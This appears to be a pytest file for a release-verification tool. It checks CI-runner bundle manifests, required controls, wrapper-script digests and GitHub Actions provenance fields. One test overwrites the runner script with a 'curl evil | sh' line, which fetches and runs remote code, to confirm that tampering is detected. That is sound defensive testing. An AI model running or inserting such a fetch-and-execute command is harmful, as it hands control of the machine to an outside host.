"""The optional CI-runner bundle document (checked when present) and GitHub Actions provenance."""

from __future__ import annotations

import hashlib
import json
from pathlib import Path

import pytest

from ringward.core.release.package_format import CI_RUNNER_REQUIRED_CONTROLS, GITHUB_HOSTED_BUILDER
from ringward.operations.release.package import release_info_from_environment
from tests.release.simulator import ReleaseSimulator, family

SCRIPT = "ci-runners/ringward-release-governance-runner.sh"
ACTION = "ci-runners/github-action/action.yml"


def _bundles(pkg: Path, controls: list[str]) -> bytes:
    installers = json.loads((pkg / "rt.installers.json").read_bytes())
    linux = next(t for t in installers["targets"] if t["target"] == "linux/amd64")
    document = {
        "schema_version": "cavra.go-runtime.ci-runner-bundles.v1", "product": "Ringward",
        "component": "runtime-release", "version": "1.2.3", "commit": installers["commit"],
        "repository": installers["repository"], "generated_at": installers["generated_at"],
        "source_metadata": "rt.endpoint-deployment.json",
        "runner_script": {"path": SCRIPT, "sha256": hashlib.sha256((pkg / SCRIPT).read_bytes()).hexdigest(),
                          "required_environment": ["CAVRA_RUNTIME_PATH", "CAVRA_RELEASE_GOVERNANCE_REQUEST"]},
        "github_action": {"path": ACTION, "sha256": hashlib.sha256((pkg / ACTION).read_bytes()).hexdigest()},
        "runner_bundles": [{
            "platform": "github-actions", "deployment_target": "github-actions-linux-amd64-runner",
            "runtime_binary": linux["binary"], "runtime_binary_sha256": linux["binary_sha256"],
            "reusable_wrapper": ACTION,
            "verification_commands": ["ringward release verify-package rt-1.2.3 --trust-root t.json",
                                       "gh attestation verify rt-1.2.3.zip --repo acme/runtime"],
            "required_outputs": [".ringward/release-governance-evidence.jsonl"],
        }],
        "controls": controls,
    }
    return (json.dumps(document, indent=2, sort_keys=True) + "\n").encode()


@pytest.fixture
def bundled(sim: ReleaseSimulator, pkg: Path) -> Path:
    sim.add_file(pkg, SCRIPT, b"#!/bin/sh\nexec ./rt \"$@\"\n", "ci-runner-wrapper")
    sim.add_file(pkg, ACTION, b"name: ringward\nruns: {using: composite, steps: []}\n", "ci-runner-wrapper")
    return pkg


def test_ci_runner_bundles_checked_when_present(sim: ReleaseSimulator, bundled: Path) -> None:
    sim.add_file(bundled, "rt.ci-runner-bundles.json", _bundles(bundled, list(CI_RUNNER_REQUIRED_CONTROLS)),
                 "ci-runner-bundles")
    result = sim.verify(bundled)
    assert result.valid, result.errors
    assert family(result, "ci-runner-bundles").status == "passed"


def test_ci_runner_bundles_missing_controls(sim: ReleaseSimulator, bundled: Path) -> None:
    sim.add_file(bundled, "rt.ci-runner-bundles.json", _bundles(bundled, list(CI_RUNNER_REQUIRED_CONTROLS[:5])),
                 "ci-runner-bundles")
    error = family(sim.verify(bundled), "ci-runner-bundles").errors[0]
    assert error.code == "metadata-mismatch" and "daemon-evidence-stream-verifier-cli" in error.message


def test_ci_runner_wrapper_tampered(sim: ReleaseSimulator, bundled: Path) -> None:
    sim.add_file(bundled, "rt.ci-runner-bundles.json", _bundles(bundled, list(CI_RUNNER_REQUIRED_CONTROLS)),
                 "ci-runner-bundles")
    (bundled / SCRIPT).write_bytes(b"#!/bin/sh\ncurl evil | sh\n")
    assert "digest-mismatch" in sim.verify(bundled).error_codes()


def test_github_actions_environment_shapes_provenance() -> None:
    env = {"GITHUB_ACTIONS": "true", "GITHUB_RUN_ID": "42", "GITHUB_RUN_ATTEMPT": "2",
           "GITHUB_REPOSITORY": "acme/runtime", "GITHUB_SERVER_URL": "https://github.com",
           "GITHUB_WORKFLOW_REF": "acme/runtime/.github/workflows/release.yml@refs/tags/v1.2.3",
           "GITHUB_EVENT_NAME": "push", "RUNNER_ENVIRONMENT": "github-hosted", "SOURCE_DATE_EPOCH": "1700000000"}
    info = release_info_from_environment(runtime="rt", version="1.2.3", commit="a" * 40, ref="refs/tags/v1.2.3",
                                         repository="acme/runtime", signer="ci", dry_run=False, environ=env)
    assert info.builder_id == GITHUB_HOSTED_BUILDER
    assert info.event == "push" and info.workflow_ref.endswith("@refs/tags/v1.2.3")
    assert info.invocation_id == "https://github.com/acme/runtime/actions/runs/42/attempts/2"
    assert info.timestamp == "2023-11-14T22:13:20Z"
    local = release_info_from_environment(runtime="rt", version="1.2.3", commit="a" * 40, ref="r",
                                          repository="acme/runtime", signer="ci", dry_run=False, environ={})
    assert local.builder_id.startswith("https://ringward.dev/") and local.workflow_ref is None
    self_hosted = release_info_from_environment(runtime="rt", version="1.2.3", commit="a" * 40, ref="r",
                                                repository="acme/runtime", signer="ci", dry_run=False,
                                                environ={**env, "RUNNER_ENVIRONMENT": "self-hosted"})
    assert self_hosted.builder_id != GITHUB_HOSTED_BUILDER  # a self-hosted runner is not the hosted builder
